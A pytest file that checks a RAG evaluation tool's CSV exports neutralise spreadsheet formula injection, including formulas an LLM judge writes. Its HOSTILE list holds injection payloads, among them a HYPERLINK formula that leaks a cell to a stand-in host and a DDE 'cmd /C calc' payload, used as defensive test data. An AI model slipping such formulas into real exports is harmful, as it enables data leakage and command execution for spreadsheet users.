"""Every CSV RAGScope writes is safe to open in a spreadsheet, including text an LLM judge wrote (issue 12)."""
from __future__ import annotations

import csv
import io
import re

import pandas as pd
import pytest

from evaluators import cli
from evaluators.presentation.csv_export import FORMULA_START, safe_for_spreadsheets, to_csv
from evaluators.judges import prompts
from evaluators.store import close_store, open_store
from tests.helpers.openai_server import Reply
from tests.helpers.llm_runs import S, verification, write_jsonl, holistic, judged_by_llm
from tests.helpers import ROOT


# What a judge (or a prompt injection through an answer) may write: formulas in each spreadsheet's spellings.
HOSTILE = ['=HYPERLINK("http://example.invalid/?leak="&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1",
           "-2+3", "\t=1+1"]


def test_text_cells_and_column_names_get_an_apostrophe_numbers_do_not():
    frame = pd.DataFrame({"answer": [*HOSTILE, "fine", None], "value": [1.0, -1.0, 0.5, -0.25, 2.0, 3.0, None],
                          "=name": ["-0.133%"] * 7})
    out = safe_for_spreadsheets(frame)
    assert out["answer"].tolist()[:6] == ["'" + h for h in HOSTILE] + ["fine"] and pd.isna(out["answer"].iloc[6])
    assert out["value"].tolist()[:6] == [1.0, -1.0, 0.5, -0.25, 2.0, 3.0]  # numbers stay numbers
    assert list(out.columns) == ["answer", "value", "'=name"] and out["'=name"].iloc[0] == "'-0.133%"
    assert frame["answer"].iloc[0] == HOSTILE[0]  # the shown table is not changed
    assert to_csv(frame).splitlines()[0] == "answer,value,'=name"


def _hostile_responder(body: dict) -> Reply:
    name = prompts.task_of(body["messages"])
    if name == "holistic":
        reply = holistic(4, (80, 80, 80), "CORRECT")
        reply["explanation"] = HOSTILE[0]
        reply["alignment"]["reasoning"] = HOSTILE[1]
        return Reply.json(reply)
    if name == "extraction":
        return Reply.json({"generated_questions": [HOSTILE[2]] * 3, "answer_claims": HOSTILE[:2],
                           "reference_claims": HOSTILE[2:4]})
    spec = dict(answer_claims=[({0: S}, S)] * 2, reference_claims=[({0: S}, S)] * 2, relevant={0})
    reply = verification(spec, body["messages"][1]["content"])
    reply["chunks"][0]["reason"] = HOSTILE[4]
    return Reply.json(reply)


@pytest.fixture(scope="module")
def judged_run(tmp_path_factory):
    """A database with one run an LLM judge scored, its claims, reasons and explanation all formulas."""
    tmp = tmp_path_factory.mktemp("csv")
    golden = write_jsonl(tmp / "g.jsonl", [{"question_id": "q1", "question": "Where is the heath?",
                                             "reference": "On the cliffs. It is purple."}])
    outputs = write_jsonl(tmp / "o.jsonl", [{"question_id": "q1", "method": "local_search", "answer": "On the cliffs.",
                                              "contexts": ["The heath grows on the cliffs."]}])
    db = tmp / "csv.duckdb"
    store = open_store(db)
    try:
        *_, run_id = judged_by_llm(store, golden, outputs, _hostile_responder)
        texts = {t for (t,) in store.cursor().execute("SELECT text FROM claims WHERE run_id = ?", [run_id]).fetchall()}
        assert set(HOSTILE[:4]) <= texts  # the judge's formulas are stored as written
    finally:
        close_store(db)
    return db, run_id


def _cells(text: str):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_safe(text: str) -> None:
    for cell in _cells(text):
        if cell.startswith(FORMULA_START):
            float(cell)  # a number (-0.5) is not a formula; any other text must not start one


@pytest.mark.parametrize("argv", [["view", "claims", "{run}", "--csv"], ["view", "error_analysis", "{run}", "--csv"],
                                  ["view", "overview", "{run}", "--csv"], ["export", "{run}", "--out", "{out}"],
                                  ["export", "{run}", "--wide", "--out", "{out}"]])
def test_the_clis_csv_defuses_what_the_judge_wrote(judged_run, argv, tmp_path, capsys):
    db, run_id = judged_run
    out = tmp_path / "export.csv"
    code = cli.main([a.format(run=run_id, out=out) for a in argv] + ["--db", str(db)])
    assert code == 0, capsys.readouterr().err
    text = out.read_text(encoding="utf-8") if "export" in argv else capsys.readouterr().out
    _assert_safe(text)
    if argv[:2] == ["view", "claims"]:
        cells = _cells(text)
        assert {"'" + HOSTILE[0], "'" + HOSTILE[1], "'" + HOSTILE[2]} <= set(cells)  # claims, questions: defused


def test_the_screens_downloads_use_the_safe_csv():
    """Every CSV the app or the CLI writes goes through csv_export.to_csv: no other `.to_csv(` in the code."""
    calls = [f"{path.relative_to(ROOT)}:{n}" for folder in ("evaluators", "ui", "pages") for path in
             (ROOT / folder).rglob("*.py") if path.name != "csv_export.py"
             for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
             if re.search(r"\.to_csv\(", line) and "csv_export.to_csv(" not in line]
    assert not calls, calls
